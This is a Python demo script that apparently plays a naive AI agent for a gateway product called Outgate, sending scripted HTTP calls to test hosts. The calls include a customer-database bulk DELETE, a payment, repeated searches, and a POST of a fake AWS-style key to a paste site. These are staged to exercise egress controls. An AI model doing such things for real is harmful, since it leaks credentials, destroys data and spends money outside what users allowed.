"""The demo's agent: a plain script with the standard library's HTTP client. It knows nothing of Outgate."""

import json
import urllib.error
import urllib.request

CALLS = (
    ("GET", "https://api.crm.test/customers/7", None, 1),
    ("GET", "https://api.crm.test/search", None, 25),
    ("POST", "https://api.pay.test/payments", {"amount": 120, "currency": "GBP", "to": "Acme Ltd"}, 1),
    ("DELETE", "https://api.crm.test/customers", None, 2),
    ("POST", "https://paste.test/new", "AKIA" + "Q3EGRIV7XKJ2MNPA", 1),  # shaped like an AWS key; never was one
)
"""Method, URL, body, and how often."""


def call(method: str, url: str, body: dict[str, object] | str | None) -> tuple[int, str]:
    data = json.dumps(body).encode() if isinstance(body, dict) else body.encode() if body else None
    kind = "application/json" if isinstance(body, dict) else "text/plain"
    headers = {"Content-Type": kind, "Authorization": "Bearer demo"} if data else {"Authorization": "Bearer demo"}
    asked = urllib.request.Request(url, data=data, headers=headers, method=method)  # noqa: S310
    try:
        with urllib.request.urlopen(asked, timeout=90) as answer:  # noqa: S310
            return answer.status, ""
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or b"{}").get("message", "")


for method, url, body, times in CALLS:
    for _ in range(times):
        status, said = call(method, url, body)
        print(json.dumps({"method": method, "url": url, "status": status, "said": said}), flush=True)  # noqa: T201
